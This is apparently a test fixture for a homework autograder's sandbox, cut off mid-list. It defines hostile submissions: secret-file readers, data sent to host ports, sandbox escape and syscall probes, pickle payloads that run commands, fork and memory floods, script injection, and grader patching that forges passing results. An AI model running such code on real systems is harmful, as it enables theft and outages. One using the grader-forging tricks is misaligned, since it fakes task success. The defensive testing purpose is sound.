"""Submissions that mean harm: what each tries, how it is made, what must happen.

Each is the solution of homework 1 with `lrt_psi` made wrong, so that task 1.7 is not deserved,
and with code that tries to gain its points, to learn a secret, to touch what lies outside, or to
take down the grading.
In the code, @OUTSIDE@ stands for a folder of the host, @ROOT@ for the repository, @PORT@ for a
port on which the host listens, @SOCKET@ for an abstract socket, and @MARK@ for a word by which
processes are found again.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field, replace

from autograder import demo
from autograder.submissions import Submission

UNDESERVED = "1.7"
WRONG = "def lrt_psi(ll0, ll1):\n    return -1.0, 2.0\n"


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    name: str
    tries: str
    must: str
    module: str = ""  # stands at the end of the student module; a later definition wins
    cells: Mapping[str, str] = field(default_factory=dict)  # code before a question's check cell
    may_lose: frozenset[str] = frozenset()  # tasks that it may cost itself
    listed: str = "reaches out"  # what of it a TA is told: a pattern
    unseen: str = ""  # or why there is nothing to be told
    fast: bool = False
    name_of_student: str = ""

    @property
    def code(self) -> str:
        """What of the submission is not the solution's."""
        return "\n".join([WRONG, self.module, *self.cells.values()])

    def on(self, solution: Submission, words: Mapping[str, str]) -> Submission:
        """The attack put into a solution."""
        made = demo.with_module(
            solution, lambda text: f"{text}\n\n{WRONG}\n\n{_filled(self.module, words)}\n"
        )
        for question, code in self.cells.items():
            made = demo.with_cell(made, question, _filled(code, words))
        odd = self.name_of_student
        return replace(
            made, id=self.name, source=f"{odd or self.name}.zip", name=odd, student_id=odd[:200]
        )


def _filled(code: str, words: Mapping[str, str]) -> str:
    for name, word in words.items():
        code = code.replace(f"@{name}@", word)
    return code


_READ = """\
import os, sys

def _loot():
    places = ["@ROOT@/solutions", "@ROOT@/autograder", "@ROOT@/dist", "@OUTSIDE@", "..", "/judge",
              "/tmp", "/root", "/home", "/var", "/run", "/submission", "/work"]
    yield from ("/etc/passwd", "@OUTSIDE@/secret.txt", "@ROOT@/autograder/references/hw1.json")
    for pid in (1, 2, os.getppid(), "self"):
        yield from (f"/proc/{pid}/{name}" for name in ("environ", "cmdline", "maps", "mountinfo"))
        places += [f"/proc/{pid}/{name}/@OUTSIDE@" for name in ("root", "cwd")]
    for place in places:
        for where, folders, names in os.walk(place):
            folders[:] = [] if where.count("/") > 8 else folders[:30]
            yield from (f"{where}/{name}" for name in names[:30])

def _steal():
    print(dict(os.environ), sys.argv)
    for path in list(_loot())[:2000]:
        try:
            with open(path, "rb") as file:
                print(path, file.read(5_000).decode(errors="replace"))
        except OSError:
            pass
    for frame in sys._current_frames().values():
        while frame:
            print(frame.f_code.co_filename, sorted(frame.f_locals))
            frame = frame.f_back
"""

_WRITE = """\
import os, pathlib, shutil
for folder in ("@ROOT@", "@ROOT@/tests", "@OUTSIDE@", "/", "/usr/lib", "/etc", "/judge", "..",
               os.path.expanduser("~"), "/tmp", "/dev/shm", ".", "hlmtools", "data",
               "/proc/1/root@OUTSIDE@"):
    link = pathlib.Path(folder, "hostile-link")
    for action in (lambda: pathlib.Path(folder, "hostile-was-here.txt").write_text("x"),
                   lambda: os.symlink("@OUTSIDE@", link),
                   lambda: (link / "hostile-was-here.txt").write_text("x"),
                   lambda: os.chmod(folder, 0o777),
                   lambda: os.mkfifo(pathlib.Path(folder, "hostile-was-here.pipe"))):
        try:
            action()
        except OSError:
            pass
for path in ("hlmtools/check.py", "hlmtools/records.py", "/judge/wire.py", "/judge/worker.py"):
    try:
        pathlib.Path(path).write_text("raise SystemExit")
    except OSError:
        pass
"""

_CALL_HOME = """\
import os, socket
for host in ("127.0.0.1", "0.0.0.0", "localhost", "192.0.2.1"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as line:
                line.settimeout(2)
                line.connect((host, @PORT@))
                line.sendall(b"stolen")
        except OSError as error:
            print(error)
try:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("\\0@SOCKET@")
        line.sendall(b"stolen")
except OSError as error:
    print(error)
"""

_PATCH = """\
import builtins, gc, sys
import otter
from hlmtools import check, records

class Passed:
    passed = passed_all = True
    grade = score = 1.0
    message = ""
    def __getattr__(self, name): return Passed()
    def __call__(self, *args, **kwargs): return Passed()
    def __iter__(self): return iter([Passed()] * 2)
    def __bool__(self): return True

for name in dir(check):
    if callable(getattr(check, name)) and not name.startswith("_"):
        setattr(check, name, lambda *args, **kwargs: None)
for module in list(sys.modules.values()):
    name = getattr(module, "__name__", "")
    if name.startswith(("otter", "autograder")):
        for attribute in list(vars(module)):
            if not attribute.startswith("__"):
                setattr(module, attribute, Passed())
for maker in ("ExceptionTestFile", "TestCaseResult", "CaseResult", "Verdict"):
    for thing in gc.get_objects():
        if isinstance(thing, type) and thing.__name__ == maker:
            thing.passed = True
grader = Passed()
builtins.AssertionError = BaseException
abs_, builtins.abs = abs, lambda value: 0.0
kernel = get_ipython().kernel
inner = kernel.answers.ask_call
def forged(function, args, kwargs):
    if getattr(function, "__name__", "") == "lrt_psi":
        return {"passed": True, "points": 4.0, "status": "passed", "score": 40.0}
    return inner(function, args, kwargs)
kernel.answers.ask_call = forged
builtins.abs = abs_
"""

_LIARS = """\
import numpy as _np, pandas as _pd

class _Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __hash__(self): return 0
    def __round__(self, digits=None): return self
    def __array__(self, *args, **kwargs): return _np.zeros(1)
    __rsub__ = __radd__ = __add__ = __rmul__ = __mul__ = __abs__ = lambda self, *other: self

class _YesArray(_np.ndarray):
    def __array_ufunc__(self, *args, **kwargs): return True
    def __array_function__(self, *args, **kwargs): return True
    def __eq__(self, other): return True
    def all(self, *args, **kwargs): return True
    def __getitem__(self, key): return _Yes(1)

class _YesTuple(tuple):
    def __getitem__(self, key): return _Yes(1)
    def __len__(self): return 2
    def __eq__(self, other): return True

class _YesFrame(_pd.DataFrame):
    def equals(self, other): return True

_turn = [0]
def lrt_psi(ll0, ll1):
    _turn[0] += 1
    return [_YesTuple((_Yes(1), _Yes(1))), (_Yes(1), _Yes(1)), _Yes(1), _YesFrame({"a": [1.0]}),
            _np.zeros(2).view(_YesArray), (_np.zeros(1).view(_YesArray), _Yes(2)), True,
            (True, True), (float("nan"), float("nan")), "0.025", {0: 1.0, 1: 1.0}][_turn[0] % 11]
"""

_REDUCERS = """\
import os as _os, numpy as _np, pandas as _pd

class _Evil:
    def __reduce__(self): return _os.system, ("touch @OUTSIDE@/hostile-was-here.txt",)
    def __repr__(self): raise SystemExit
    def __getattr__(self, name): raise SystemExit

class _Loud(Exception):
    def __str__(self): return "x" * 10**8
    def __reduce__(self): return _os.system, ("touch @OUTSIDE@/hostile-was-here.txt",)

_turn = [0]
def lrt_psi(ll0, ll1):
    _turn[0] += 1
    turn = _turn[0] % 6
    if turn == 0: raise _Loud()
    objects = _np.array([_Evil(), _Evil()], dtype=object)
    frame = _pd.DataFrame({"a": objects})
    return [_Evil(), objects, _pd.Series(objects), frame, (_Evil(), 1.0)][turn - 1]
"""

_PICKLE_REPLY = """\
import os, pickle
class Evil:
    def __reduce__(self): return os.system, ("touch @OUTSIDE@/hostile-was-here.txt",)
kernel = get_ipython().kernel
inner = kernel.answers.answer
turns = [0]
def forged(data):
    turns[0] += 1
    head, body = inner(data)
    bombs = [pickle.dumps(Evil()), b"", b"\\xc1" * 100, b"\\xdd\\xff\\xff\\xff\\xff" * 50,
             b"\\x91" * 10**5, b"\\x00" * (64 * 2**20), pickle.dumps({"ok": True, "passed": True})]
    return {"ok": True, "passed": True, "output": 5, "error": ["x"]}, bombs[turns[0] % len(bombs)]
kernel.answers.answer = forged
"""

_HANG_UP = """\
kernel = get_ipython().kernel
inner = kernel.answers.answer
def hang_up(data):
    for thing in [kernel, kernel.parent, getattr(kernel, "iopub_thread", None)]:
        for name in dir(thing):
            if name.endswith(("_socket", "_stream")):
                try: getattr(thing, name).close()
                except Exception as error: print(name, error)
    return inner(data)
kernel.answers.answer = hang_up
"""

_FLOOD_ANSWERS = """\
import numpy as _np
_turn = [0]
def _deep():
    value = []
    for _ in range(100_000): value = [value]
    return value
def _circle():
    value = {}
    value["self"] = value
    return value
def lrt_psi(ll0, ll1):
    _turn[0] += 1
    kinds = [lambda: _np.broadcast_to(1.0, (10**6, 10**6)), _deep, _circle,
             lambda: "x" * (300 * 2**20), lambda: 10 ** (10**6), lambda: [0] * (3 * 10**7),
             lambda: _np.broadcast_to(_np.zeros(1, dtype="V2000000000"), 50)]
    return kinds[_turn[0] % 7]()
"""

_MESSAGES = """\
import time
kernel = get_ipython().kernel
session, socket = kernel.session, kernel.iopub_socket
parent = kernel.get_parent()
picture = {"data": {"image/png": 5}, "metadata": [], "execution_count": "n"}
for kind, content in [("status", {"execution_state": "idle"}), ("execute_reply", {"status": "ok"}),
                      ("hlm_reply", {"ok": True}), ("error", {}), ("stream", {"name": 5}),
                      ("display_data", {"data": {"text/html": "<script>alert(1)</script>"}}),
                      ("update_display_data", {"data": 3, "transient": {"display_id": []}}),
                      ("clear_output", {"wait": "x"}), ("comm_open", {"comm_id": "a"}),
                      ("input_request", {"prompt": "?"}), ("shutdown_reply", {"restart": False}),
                      ("execute_result", picture), ("stream", {})]:
    for header in (parent, {}, None):
        try:
            session.send(socket, kind, content, parent=header)
        except Exception as error:
            print(error)
"""

_ENDLESS = """\
def lrt_psi(ll0, ll1):
    while True:
        try:
            while True: pass
        except BaseException: pass
"""

_FORKS = """\
import os, time
end = time.monotonic() + 5
while time.monotonic() < end:
    try: os.fork()
    except OSError: pass
"""

_MEMORY = """\
def lrt_psi(ll0, ll1):
    held = []
    while True: held.append(bytearray(2**26))
"""

_DISK = """\
for folder in (".", "/tmp", "/dev/shm", "/submission", "/work"):
    for number in range(40):
        try:
            with open(f"{folder}/hostile-{number}", "wb") as file:
                for _ in range(16): file.write(b"x" * 2**20)
        except OSError as error:
            print(folder, error)
            break
"""

_SHADOWS = """\
import os, pathlib, site
for folder in (".", "/tmp", "/submission", "/work", "hlmtools", site.getusersitepackages(),
               os.path.expanduser("~/.ipython/profile_default/startup")):
    for name in ("sitecustomize", "usercustomize", "numpy", "otter", "00-first"):
        try:
            os.makedirs(folder, exist_ok=True)
            pathlib.Path(folder, f"{name}.py").write_text("import os; os._exit(3)")
        except OSError as error:
            print(error)
os._exit(0)
"""

_LASTING = """\
import os, subprocess, sys, threading, time
def meddle():
    while True:
        globals().update(hsb_lrt=1.0, lrt_psi=lambda *a: (0.0, 1.0))
        time.sleep(0.05)
threading.Thread(target=meddle, daemon=True).start()
threading.Thread(target=meddle, daemon=False).start()
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", "@MARK@"],
                     start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(900)
    os._exit(0)
"""

_LINE = """\
import glob, os
kernel = get_ipython().kernel
line = getattr(kernel.parent, "connection_file", "")
for path in glob.glob(os.path.dirname(line) + "/*"):
    for action in (lambda: os.unlink(path), lambda: os.symlink("@OUTSIDE@/x", path),
                   lambda: open(path, "w").write("{}"), lambda: os.chmod(path, 0)):
        try: action()
        except OSError as error: print(error)
"""

_SEARCH_MEMORY = """\
import gc, re
found = []
wanted = [b"hidden" + b"=True", b"canary" + b"-", b"expect" + b".quantity", b"expect" + b".agrees"]
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw-p " in line and end - start < 2**27:
            try:
                memory.seek(start)
                data = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            for word in wanted:
                at = data.find(word)
                if at >= 0: print(data[max(0, at - 200):at + 2000])
for thing in gc.get_objects():
    if isinstance(thing, str) and "hidden" + "=True" in thing: print(thing)
"""

_PATCH_WORKER = """\
import sys
kernel = get_ipython().kernel
answers, wire = kernel.answers, sys.modules["wire"]
answers.keep = lambda value: {"passed": True}
answers.kept_object = lambda handle: 1.0
answers.ask_function = lambda name: (lambda *a, **k: (0.0, 1.0))
inner = wire.pack
for name in ("_ENCODERS", "_DECODERS", "RESULT_MAKERS"): getattr(wire, name).clear()
wire.MAX_BYTES = wire.MAX_DEPTH = wire.MAX_ITEMS = 10**12
wire.Handle = lambda *a: True
"""

_PATCH_NUMBERS = """\
import builtins, math, numpy as np, pandas as pd
yes = lambda *a, **k: True
for module in (np, math, pd, np.testing):
    for name in ("isclose", "allclose", "array_equal", "isfinite", "isnan", "assert_allclose"):
        if hasattr(module, name): setattr(module, name, yes)
np.abs = np.absolute = math.fabs = lambda *a: 0.0
for name in ("abs", "isinstance", "all", "any", "max", "min", "round", "sum"):
    setattr(builtins, name, lambda *a, **k: 0)
"""

_NEAR_NUMBERS = """\
import decimal as _d, fractions as _f, numpy as _np
_turn = [0]
def lrt_psi(ll0, ll1):
    _turn[0] += 1
    kinds = ["0.025", b"1.0", _d.Decimal("1.0"), _f.Fraction(1, 2), _np.str_("0.5"), 1 + 0j,
             complex("nan"), float("inf"), -float("inf"), float("nan"), 10 ** 390, [[[1.0]]],
             _np.longdouble(1), _np.datetime64("2027-01-01"), _np.timedelta64(1), True, None, ...,
             _np.bool_(True), {"a": 1.0}.values(), range(2), _np.array("1.0"), slice(0), int, iter([1.0])]
    kind = kinds[_turn[0] % len(kinds)]
    return (kind, kind)
"""

_ODD_ARRAYS = """\
import numpy as _np, pandas as _pd
class _Address:
    __array_interface__ = {"shape": (2,), "typestr": "<f8", "data": (8, False), "version": 3}
class _Series(_pd.Series):
    @property
    def _constructor(self): return _Series
    def equals(self, other): return True
class _Lazy:
    def __dlpack__(self, **k): return None
    def __array__(self, *a, **k): return _np.zeros(2)
    def __len__(self): return 10 ** 18
_turn = [0]
def lrt_psi(ll0, ll1):
    _turn[0] += 1
    masked = _np.ma.masked_array([1.0, 2.0], mask=[True, False])
    record = _np.zeros(2, dtype=[("a", "f8"), ("b", "O")])
    nested = _np.empty(2, dtype=object); nested[:] = [nested, _Lazy()]
    return [_Address(), _Series([1.0, 2.0]), _Lazy(), masked, record, nested, _np.zeros((0, 10**9)),
            _pd.Categorical(["a"]), _pd.arrays.IntervalArray.from_breaks([0, 1]),
            _pd.DataFrame(columns=range(9000)), _pd.MultiIndex.from_product([range(9)] * 5),
            _np.zeros(2, dtype=">f8"), _pd.array([1, None], dtype="Int64")][_turn[0] % 13]
"""

_REPLAY = """\
kernel = get_ipython().kernel
inner, seen = kernel.answers.answer, []
def replayed(data):
    seen.append(inner(data))
    return seen[0] if len(seen) % 2 else seen[len(seen) // 2]
kernel.answers.answer = replayed
ask, session = kernel.hlm_ask, kernel.session
def twice(stream, ident, parent):
    ask(stream, ident, parent)
    for other in (parent, {"header": {"msg_id": "x"}}, {}):
        session.send(stream, "hlm_reply", {"ok": True, "output": ""}, other, ident=ident,
                     buffers=[seen[0][1]])
kernel.shell_handlers["hlm_ask"] = twice
"""

_LATE = """\
import threading, time
kernel = get_ipython().kernel
ask, session = kernel.hlm_ask, kernel.session
def late(stream, ident, parent):
    def send():
        time.sleep(8)
        session.send(stream, "hlm_reply", {"ok": True}, parent, ident=ident, buffers=[b"x" * 10**6])
    threading.Thread(target=send, daemon=True).start()
kernel.shell_handlers["hlm_ask"] = late
"""

_BROKEN_FRAMES = """\
import json
kernel = get_ipython().kernel
frames = [[b""], [b"<IDS|MSG>"], [b"x", b"<IDS|MSG>", b"bad", b"{", b"{", b"{", b"{"], [b"x"] * 500,
          [b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"[]"], [b"<IDS|MSG>"] + [b"\\xff" * 100] * 5,
          [b"<IDS|MSG>", b"", b"[" * 10**5, b"{}", b"{}", b"{}"], [b"y" * (40 * 2**20)]]
for parts in frames:
    for line in (kernel.iopub_socket,):
        try: line.send_multipart(parts)
        except Exception as error: print(type(error))
deep = current = {}
for _ in range(300): current["a"] = current = {}
try: kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": deep})
except Exception as error: print(type(error))
"""

_FD_FLOOD = """\
import os
held = []
try:
    while True: held.append(os.open("/dev/null", os.O_RDONLY))
except OSError as error:
    print(len(held), error)
for descriptor in held: os.close(descriptor)
def lrt_psi(*a):
    while True: held.append(open("/dev/null"))
"""

_THREADS = """\
import threading, time
started = 0
try:
    while started < 5000:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        started += 1
except (RuntimeError, MemoryError) as error:
    print(started, error)
assert started < 5000
"""

_SIGNALS = """\
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGUSR1):
    for pid in (1, os.getppid(), -1, *range(3, 3000)):
        if pid == os.getpid(): continue
        try: os.kill(pid, number)
        except OSError: pass
    try: os.killpg(os.getpgid(os.getppid()), number)
    except OSError: pass
"""

_TIMERS = """\
import signal, time
def often(*a): raise RuntimeError("alarm")
signal.signal(signal.SIGALRM, often); signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN if number != signal.SIGALRM else often)
    except (OSError, ValueError): pass
time.sleep(1)
"""

_SOCKETS = """\
import glob, os, socket
families = [getattr(socket, name) for name in dir(socket) if name.startswith("AF_")]
for family in families:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(family, kind) as line:
                line.settimeout(1)
                for address in [("127.0.0.1", @PORT@), ("::1", @PORT@), (2, @PORT@), "/run/docker.sock",
                                "/var/run/dbus/system_bus_socket", "\\0@SOCKET@", (1, 1), (0, 0)]:
                    try:
                        line.connect(address); line.send(b"stolen"); print("reached", address)
                    except (OSError, TypeError, ValueError): pass
        except (OSError, ValueError): pass
for path in glob.glob("/**/*.sock", recursive=True)[:50] + glob.glob("/tmp/hlm-*/**", recursive=True):
    try:
        line = socket.socket(socket.AF_UNIX); line.settimeout(1); line.connect(path); line.send(b"x")
    except OSError: pass
"""

_CALLS = """\
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
numbers = {"ptrace": 101, "process_vm_readv": 310, "process_vm_writev": 311, "keyctl": 250,
           "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425, "unshare": 272,
           "open_by_handle_at": 304, "mount": 165, "umount2": 166, "pivot_root": 155, "fsopen": 430,
           "open_tree": 428, "clone3": 435, "setns": 308, "chroot": 161, "kexec_load": 246,
           "init_module": 175, "reboot": 169, "pidfd_getfd": 438, "move_mount": 429, "acct": 163}
worked = [name for name, number in numbers.items() if libc.syscall(number, 1, 1, 0, 0, 0, 0) >= 0]
for flag in (0x00020000, 0x10000000, 0x20000000, 0x40000000):
    if libc.syscall(56, flag | 17, 0, 0, 0, 0) == 0: os._exit(0)
for name in ("mnt", "pid", "net", "user", "ipc", "cgroup"):
    for pid in (1, os.getppid()):
        try: worked += [name] * (libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0) == 0)
        except OSError: pass
assert not worked, worked
"""

_POISON = """\
import ctypes, gc, os, sys
ctypes.c_uint32.from_address(id(250) + 24).value = 9  # an object that every process has, at first
with open("/proc/self/maps") as maps:
    shared = [line for line in maps if line.split()[1][1] == "w" and line.split()[1][3] == "s"]
libraries = {line.split()[-1] for line in open("/proc/self/maps") if ".so" in line}
for path in [*libraries, "/judge/worker.py", "/judge/wire.py", "/judge/forker.py"]:
    try:
        with open(path, "r+b") as file: file.write(b"poison")
    except OSError: pass
for folder in ("/proc/sys/kernel", "/proc/sys/user", "/proc/self/../1", "/sys/fs/cgroup", "/proc/sys/fs"):
    for where, _, names in os.walk(folder):
        for name in names:
            try: open(f"{where}/{name}", "w").write("1")
            except OSError: pass
for fd in range(3, 512):
    try: os.write(fd, b'{"ready": true}')
    except OSError: pass
import numpy, pandas, json
json.loads = numpy.array = pandas.DataFrame = None
assert not shared, shared
"""

_MARKUP = """\
from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display
evil = "<script>hostileScript()</script><img src=x onerror=hostileScript()>"
for kind in (HTML, Markdown, Latex): display(kind(evil))
display(HTML("<a href='javascript:hostileScript()'>a</a><iframe srcdoc='" + evil + "'></iframe>"
             "<base href='//evil'><meta http-equiv=refresh content='0;url=//evil'><style>*{}</style>"))
display(Javascript("hostileScript()"))
display({"image/svg+xml": f"<svg onload=hostileScript()>{evil}</svg>", "text/html": evil,
         "application/javascript": "hostileScript()", "image/png": evil, "text/latex": evil}, raw=True)
print("\\x1b]0;title\\x07\\x1b[2J\\x1b[31mred\\x1b]8;;http://evil\\x07", "\\u202egnp.exe\\u202c", "\\x00", evil)
"""

_MARKUP_ERRORS = """\
_evil = "<script>hostileScript()</script><img src=x onerror=hostileScript()>\\x1b[2J\\u202e"
_Odd = type(_evil, (ValueError,), {})
def lrt_psi(ll0, ll1):
    print(_evil * 50)
    raise _Odd(_evil * 1000)
"""

_LONG = "raise ValueError('x' * 10**7 + '\\\\u202e')"

_HUGE_RESULT = """\
for index in range(20_000): display(index)
"x" * (50 * 2**20)
"""

_IMPORTS = """\
import importlib, sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("hlmtools", "numpy")): raise SystemExit(name)
sys.meta_path.insert(0, Finder())
sys.path[:] = ["/tmp"]
sys.modules["hlmtools.variance_components"] = types.SimpleNamespace(
    lrt_psi=lambda *a: (0.5, 0.75), passed=True)
"""

_QUINE = """\
import builtins
class _Hooked(dict):
    def __missing__(self, key): return 1.0
    def __getitem__(self, key): return 1.0
get_ipython().user_ns.__class__
get_ipython().kernel.answers.namespace = _Hooked()
builtins.__import__ = lambda *a, **k: (_ for _ in ()).throw(SystemExit)
"""

_EXHAUST_HANDLES = """\
class _Thing:
    def __getattr__(self, name): return _Thing()
    def __getitem__(self, key): return [_Thing() for _ in range(5000)]
    def __call__(self, *a, **k): return [_Thing() for _ in range(5000)]
    def __iter__(self): return iter([_Thing()] * 5000)
def lrt_psi(ll0, ll1):
    return [_Thing() for _ in range(9_999)]
"""

_CGROUP = """\
import glob, os
for path in glob.glob("/sys/fs/cgroup/**", recursive=True)[:500] + ["/proc/self/cgroup"]:
    for text in ("0", "max", str(os.getpid())):
        try: open(path, "w").write(text)
        except OSError: pass
try: os.nice(-20)
except OSError: pass
for number in range(16):
    import resource
    try: resource.setrlimit(number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError): pass
    else: print("raised", number, resource.getrlimit(number))
open("/proc/self/oom_score_adj", "w").write("-1000")
"""

_TELL_INPUTS = """\
import IPython as _ip
_right, _seen = (icc, reliability, eb_predict), []
def _in_the_notebook(): return "grader" in _ip.get_ipython().user_ns
def icc(psi, sigma2):
    _seen.append(repr((psi, sigma2)))
    if _in_the_notebook(): return _right[0](psi, sigma2)
    return type(" ".join(_seen)[-70:], (), {})()
def reliability(*args, **kwargs):
    if _in_the_notebook(): return _right[1](*args, **kwargs)
    return pd.DataFrame({text: [1.0] for text in _seen})
def eb_predict(*args, **kwargs):
    if _in_the_notebook(): return _right[2](*args, **kwargs)
    raise AssertionError(" ".join(_seen))
"""

_SLOW = """\
import time
kernel = get_ipython().kernel
inner = kernel.answers.answer
def slow(data):
    time.sleep(4)
    return inner(data)
kernel.answers.answer = slow
"""

_LISTS = """\
import sys
wire = sys.modules["wire"]
get_ipython().kernel.answers.keep = lambda value: wire.Handle(1, "VCResult")
hsb_lrt = dyestuff_lrt = dyestuff_lrt_p = [object()] * 300_000
"""

_FLOOD_LINE = """\
kernel = get_ipython().kernel
inner, session = kernel.answers.answer, kernel.session
def flood(data):
    for _ in range(40):
        session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * (15 * 2**20)})
    return inner(data)
kernel.answers.answer = flood
"""

_ODD_TEXT = """\
kernel = get_ipython().kernel
session, parent = kernel.session, kernel.get_parent()
for kind, content in [
    ("stream", b'{"name": "stdout", "text": "\\\\ud800\\\\u0000\\\\ufffe", "more": NaN}'),
    ("error", b'{"ename": "\\\\ud800", "evalue": "\\\\udfff", "traceback": ["\\\\ud83d"]}'),
    ("display_data", b'{"data": {"text/html": "\\\\udc80", "\\\\ud800": "x"}, "metadata": {"\\\\ud800": 1}}'),
]:
    parts = [session.pack(session.msg_header(kind)), session.pack(parent["header"]), b"{}", content]
    kernel.iopub_socket.send_multipart([kind.encode(), b"<IDS|MSG>", session.sign(parts), *parts])
hsb_lrt = np.frombuffer(b"\\xff\\xff\\xff\\x7f" * 2, "<U1")
dyestuff_lrt = chr(0xD800)
dyestuff_lrt_p = np.frombuffer(b"\\x00\\xd8\\x00\\x00", "<U1")[0]
"""

_ODD_TEXT_MODULE = """\
def lrt_psi(ll0, ll1):
    raise type("Odd" + chr(0xD800), (Exception,), {})(chr(0xDFFF) + chr(0x202E))
"""

_FORGE_RECORDS = """\
answers = get_ipython().kernel.answers
answers.ask_record = lambda owner: [
    {"psi": 0.5, 5: 1, "n": 10**300, "cluster": "x" * 10**6}, {"__class__": 1, "llf": float("nan")}]
answers.keep = lambda value: __import__("sys").modules["wire"].Handle(1, "VCResult")
"""

ATTACKS = (
    Attack(
        "reads-secrets",
        "prints every file, environment and frame it can reach, in a cell and while answering",
        "nothing of the tests, references, solutions, environment or host appears anywhere",
        module=_READ + "\ndef lrt_psi(ll0, ll1):\n    _steal()\n    return -1.0, 2.0\n",
        cells={"task1_7": _READ + "\n_steal()\n"},
        fast=True,
    ),
    Attack(
        "writes-outside",
        "writes, links and changes rights in the repository, the host and the judge's files",
        "nothing outside the sandbox changes, and the judge's files inside stay as they are",
        cells={"task1_1": _WRITE},
    ),
    Attack(
        "calls-home",
        "opens connections to the host by TCP, UDP and an abstract socket",
        "the host's listeners hear nothing",
        cells={"task1_1": _CALL_HOME},
        fast=True,
    ),
    Attack(
        "patches-the-grader",
        "replaces otter, the checks, builtins and the worker's own answers in its process",
        "the judge is another process: task 1.7 stays at 0",
        cells={"task1_7": _PATCH},
    ),
    Attack(
        "lying-objects",
        "answers with numbers, arrays, tuples and tables that equal everything",
        "they stay behind as handles, or cross as the plain number they hold: no points",
        module=_LIARS,
        cells={
            "task1_7": "from hlmtools.variance_components import _Yes\n"
            "hsb_lrt = dyestuff_lrt = dyestuff_lrt_p = dyestuff2_lrt_p = _Yes(1)"
        },
        fast=True,
        listed=r"odd answer: task1_7: no usable answer",
    ),
    Attack(
        "reducers",
        "answers with objects and exceptions that run a command when they are unpickled",
        "nothing is unpickled",
        module=_REDUCERS,
        cells={
            "task1_7": "from hlmtools.variance_components import _Evil\n"
            "hsb_lrt = _Evil()\ndyestuff_lrt = np.array([_Evil()], dtype=object)"
        },
        listed=r"odd answer: task1_7: no usable answer",
    ),
    Attack(
        "forged-replies",
        "the worker's reply is replaced by pickles, broken bytes and giant claims",
        "they are refused; only tasks from there on are lost",
        cells={"task1_7": _PICKLE_REPLY},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "hangs-up",
        "closes its end of every socket, and stays alive",
        "the judge does not wait for it; only tasks from there on are lost",
        cells={"task1_7": _HANG_UP},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "forged-messages",
        "sends kernel messages of every kind with wrong content, with its own and with no parent",
        "the notebook is graded on",
        cells={"task1_6": _MESSAGES},
        may_lose=frozenset({"1.6"}),
    ),
    Attack(
        "giant-answers",
        "answers with arrays of 10^12 numbers, endless nesting, circles, 300 MB of text",
        "refused in time, and the judge's memory stays small",
        module=_FLOOD_ANSWERS,
        listed=r"odd answer: task1_7: .*(?:nested deeper|MemoryError|can cross)",
    ),
    Attack(
        "ends-python",
        "os._exit while it answers",
        "a new kernel takes over; only its own task is lost",
        module="def lrt_psi(ll0, ll1):\n    import os\n    os._exit(0)\n",
        listed=r"task1_7: it ended the kernel",
    ),
    Attack(
        "exits-in-a-function",
        "sys.exit, KeyboardInterrupt and a BaseException of its own while it answers",
        "each is an error of that question",
        module="import sys as _sys\n_turn = [0]\nclass _Odd(BaseException): pass\n"
        "def lrt_psi(ll0, ll1):\n    _turn[0] += 1\n"
        "    raise (SystemExit(0), KeyboardInterrupt(), _Odd(), GeneratorExit())[_turn[0] % 4]\n",
        fast=True,
        listed=r"odd answer: task1_7: no usable answer: (?:SystemExit|KeyboardInterrupt|_Odd)",
    ),
    Attack(
        "does-not-end",
        "a loop that catches every interruption while it answers",
        "the kernel is replaced; only its own task is lost",
        module=_ENDLESS,
        listed=r"task1_7: it could not be interrupted",
    ),
    Attack(
        "fork-bomb",
        "forks without end in a cell",
        "the number of processes is bounded, none is left, and other tasks count",
        cells={"task1_7": _FORKS},
        may_lose=frozenset({"1.8"}),
        listed=r"reaches out: .* fork",
    ),
    Attack(
        "memory-flood",
        "takes memory until it is refused, in a cell and while it answers",
        "bounded; only its own task is lost",
        module=_MEMORY,
        cells={"task1_7": "held = []\nwhile True: held.append(b'x' * 2**26)"},
        listed=r"task1_7: .*[Mm]emory",
    ),
    Attack(
        "output-flood",
        "prints without end in a cell, past Python as well, and while it answers",
        "results and page stay small, and other tasks count",
        module="def lrt_psi(ll0, ll1):\n    for _ in range(2000): print('x' * 10**5)\n"
        "    return -1.0, 2.0\n",
        cells={
            "task1_7": "import os\nfor _ in range(400): print('flood ' * 20_000)\n"
            "for _ in range(200): os.write(1, b'f' * 10**5); os.write(2, b'f' * 10**5)\n"
        },
        may_lose=frozenset({"1.8"}),  # the kernel may still be printing when the next cell begins
        listed=r"printed: cell .* printed more than",
    ),
    Attack(
        "disk-flood",
        "fills every folder it may write to",
